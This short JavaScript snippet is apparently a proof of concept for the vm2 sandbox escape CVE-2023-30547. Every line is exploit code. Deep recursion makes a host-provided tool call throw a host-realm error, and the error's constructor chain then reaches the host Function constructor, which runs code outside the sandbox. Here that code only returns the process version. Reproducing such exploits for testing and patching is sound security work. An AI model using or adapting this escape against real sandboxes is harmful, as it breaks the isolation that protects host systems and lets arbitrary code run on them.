// The stack is full inside our own code, at every depth near its end.
// Source: vm2, CVE-2023-30547.
let found;
function deep(n) { try { deep(n + 1) } catch (error) { found ??= error } try { void tools.geo.getCity({}) } catch (error) { if (error.constructor !== RangeError) found = error } }
deep(0);
return found.constructor.constructor("return process.version")()
